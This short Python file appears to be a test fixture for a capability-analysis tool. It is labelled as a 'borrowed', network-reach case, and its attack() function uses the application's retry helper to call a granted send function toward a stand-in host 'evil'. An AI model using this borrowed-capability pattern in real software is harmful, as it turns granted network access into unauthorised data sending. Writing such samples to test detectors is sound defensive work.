"""The application calls a granted function that it is given."""
CATEGORY = "borrowed"
REACH = "net"
BEYOND = ('The application calls it, and decides what it calls; "$walk": '
          '"strict" judges who has it called, too.')

from . import payload


def attack():
    import __main__
    import good
    __main__.retry(good.send, "evil", payload.PORT)
